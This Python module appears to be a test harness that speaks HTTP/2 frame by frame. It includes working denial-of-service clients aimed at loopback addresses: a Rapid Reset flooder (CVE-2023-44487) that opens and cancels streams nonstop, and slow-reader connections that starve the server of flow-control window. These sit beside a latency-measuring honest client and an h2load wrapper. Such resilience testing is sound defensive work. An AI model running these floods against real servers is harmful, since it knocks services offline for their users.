"""HTTP/2 frames by hand (RFC 9113): a client that asks for many things at once, and clients that mean harm.

Field blocks are sent as literals; of answers only statuses with a code of their own in the static table are told (RFC
7541, appendix A), which is enough to know a 200 from anything else.
"""

import contextlib
import re
import socket
import ssl
import struct
import subprocess
import threading
import time

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL, ENHANCE_YOUR_CALM = 8, 11
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STATUSES = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
GONE = (ConnectionError, TimeoutError, ssl.SSLError, OSError)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _string(text):
    raw = text.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    prefix, rest = b"\x7f", len(raw) - 127
    while rest >= 128:
        prefix, rest = prefix + bytes([rest % 128 + 128]), rest >> 7
    return prefix + bytes([rest]) + raw


def literal(name, value):
    return b"\0" + _string(name) + _string(value)


def head(path, token=None, method="GET", authority="localhost"):
    fields = {":method": method, ":scheme": "https", ":path": path, ":authority": authority}
    if token:
        fields["authorization"] = f"Bearer {token}"
    return b"".join(literal(name, value) for name, value in fields.items())


class Connection:
    """One connection, frame by frame. `source`: our address of the loopback network; each has a limit of its own."""

    def __init__(self, host, port, source="127.0.0.1", windows=65_535, timeout_s=20):
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((host, port), timeout_s, source_address=(source, 0))
        self.socket = context.wrap_socket(plain)
        assert self.socket.selected_alpn_protocol() == "h2"
        self.next_stream = 1
        self.received = b""
        setting = struct.pack(">HI", 4, windows)   # SETTINGS_INITIAL_WINDOW_SIZE
        more = frame(WINDOW, 0, 0, struct.pack(">I", windows - 65_535)) if windows > 65_535 else b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, setting) + more)

    def send(self, wire):
        self.socket.sendall(wire)

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()

    def request(self, path, token=None):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path, token)))
        return stream

    def read_frame(self):
        """(kind, flags, stream, payload), or None at the end. What asks for an acknowledgement gets it."""
        while True:
            if len(self.received) >= 9:
                size = int.from_bytes(self.received[:3], "big")
                if len(self.received) >= 9 + size:
                    _, kind, flags, stream = struct.unpack(">IBBI", b"\0" + self.received[:9])
                    payload, self.received = self.received[9:9 + size], self.received[9 + size:]
                    if kind in (SETTINGS, PING) and not flags & ACK:
                        self.send(frame(kind, ACK, 0, payload if kind == PING else b""))
                    return kind, flags, stream, payload
            part = self.socket.recv(65_536)
            if not part:
                return None
            self.received += part

    def answers(self, streams):
        """{stream: (status, size of the body)} of those streams, when the last of them has ended."""
        status, sizes, open_streams = {}, dict.fromkeys(streams, 0), set(streams)
        while open_streams:
            got = self.read_frame()
            assert got, f"the connection ended while {len(open_streams)} streams were open"
            kind, flags, stream, payload = got
            if kind == HEADERS:
                status[stream] = STATUSES.get(payload[0], 0)
            elif kind == DATA:
                sizes[stream] += len(payload)
                if payload:
                    more = struct.pack(">I", len(payload))
                    with contextlib.suppress(OSError):   # the server may have said everything, and gone
                        self.send(frame(WINDOW, 0, 0, more) + frame(WINDOW, 0, stream, more))
            goodbye = kind == GOAWAY and payload[4:8] == bytes(4)   # with NO_ERROR: what is open is still answered
            assert kind not in (RESET, GOAWAY) or goodbye, f"kind {kind} on stream {stream}: {payload.hex()}"
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                open_streams.discard(stream)
        return {stream: (status.get(stream), size) for stream, size in sizes.items()}


class Load:
    """Something that runs beside the test until it is told to end."""

    def __init__(self):
        self._over = threading.Event()
        self._threads = []

    def _run(self, work):
        thread = threading.Thread(target=work, daemon=True)
        thread.start()
        self._threads.append(thread)

    def stop(self):
        self._over.set()
        for thread in self._threads:
            thread.join(30)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()


class RapidReset(Load):
    """Opens streams and resets them at once, as fast as it can; comes back each time it is sent away (CVE-2023-44487)."""

    def __init__(self, api, path="/healthz", token=None, source="127.0.0.3"):
        super().__init__()
        self.resets = self.connections = 0
        self._connect = lambda: Connection(api.host, api.port, source)
        self._head = head(path, token)
        self._run(self._attack)

    def _attack(self):
        while not self._over.is_set():
            try:
                connection = self._connect()
            except GONE:
                continue
            self.connections += 1
            with contextlib.suppress(*GONE):
                while not self._over.is_set() and connection.next_stream < 100_000:
                    wire = b""
                    for stream in range(connection.next_stream, connection.next_stream + 100, 2):
                        wire += frame(HEADERS, END_STREAM | END_HEADERS, stream, self._head)
                        wire += frame(RESET, 0, stream, struct.pack(">I", CANCEL))
                    connection.next_stream += 100
                    connection.send(wire)
                    self.resets += 50
            connection.close()


class SlowReaders(Load):
    """Connections that ask for large answers on many streams. Half read nothing; half read, and give a few bytes of room
    a second. One that is sent away comes back."""

    def __init__(self, api, paths, token, connections, streams, source="127.0.0.2"):
        super().__init__()
        self.opened = self.sent_away = 0
        self._api, self._paths, self._token, self._streams, self._source = api, paths, token, streams, source
        self._open = [self._connect(reads=i % 2 == 0) for i in range(connections)]
        self._run(self._dawdle)

    def _connect(self, reads):
        connection = Connection(self._api.host, self._api.port, self._source, windows=65_535 if reads else 2**30)
        connection.reads = reads
        for i in range(self._streams):
            connection.request(self._paths[i % len(self._paths)], self._token)
        connection.socket.setblocking(False)
        self.opened += 1
        return connection

    def _dawdle(self):
        while not self._over.wait(1):
            for i, connection in enumerate(self._open):
                if connection.reads and not self._read_a_little(connection):
                    connection.close()
                    self.sent_away += 1
                    with contextlib.suppress(*GONE):
                        self._open[i] = self._connect(reads=True)
        for connection in self._open:
            connection.close()

    @staticmethod
    def _read_a_little(connection):
        try:
            while connection.socket.recv(65_536):
                pass
            return False
        except ssl.SSLWantReadError:
            pass
        except GONE:
            return False
        with contextlib.suppress(*GONE):
            room = struct.pack(">I", 10)
            connection.send(b"".join(frame(WINDOW, 0, stream, room) for stream in (0, 1, 3)))
        return True


class Viewer(Load):
    """An honest one beside them: asks again and again, and writes down how long each answer took."""

    def __init__(self, api, path, every_s=0.1):
        super().__init__()
        self.times_s, self.faults = [], []
        self._run(lambda: self._watch(api, path, every_s))

    def _watch(self, api, path, every_s):
        while not self._over.wait(every_s):
            began = time.monotonic()
            try:
                answer = api.get(path)
                if answer.status != 200:
                    self.faults.append(f"{answer.status}")
            except OSError as e:
                self.faults.append(str(e))
            self.times_s.append(time.monotonic() - began)

    def percentile_ms(self, share):
        ordered = sorted(self.times_s)
        return ordered[min(len(ordered) - 1, int(share * len(ordered)))] * 1000 if ordered else None


def h2load(urls, connections, streams, token=None, requests=None, seconds=None, warm_up_s=5, timeout_s=300):
    """Runs h2load (Debian: nghttp2-client) and answers what it counted.

    At the end of its time h2load tells those of its clients to stop that are connected by then. One that connects later
    asks on for ever (its `Worker::stop_all_clients`, version 1.52), so there is time for that before it begins to count."""
    amount = ["-n", requests] if requests else ["-D", seconds, "--warm-up-time", warm_up_s]
    command = ["h2load", *amount, "-c", connections, "-m", streams, "-t", 1]
    command += ["-H", f"authorization: Bearer {token}"] if token else []
    try:
        done = subprocess.run([str(part) for part in [*command, *urls]], capture_output=True, text=True, timeout=timeout_s,
                              check=False)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"h2load did not end within {timeout_s} s: some of its clients connected too late") from None
    counted = re.search(r"requests: (\d+) total, (\d+) started, (\d+) done, (\d+) succeeded, (\d+) failed, (\d+) errored, "
                        r"(\d+) timeout", done.stdout)
    assert counted, done.stdout + done.stderr
    names = ("total", "started", "done", "succeeded", "failed", "errored", "timeout")
    rate = re.search(r"([\d.]+) req/s", done.stdout)
    mean = re.search(r"time for request:\s+(\S+)\s+(\S+)\s+(\S+)", done.stdout)
    return {**dict(zip(names, map(int, counted.groups()))), "per_s": float(rate.group(1)),
            "longest": mean.group(2), "mean": mean.group(3), "report": done.stdout}
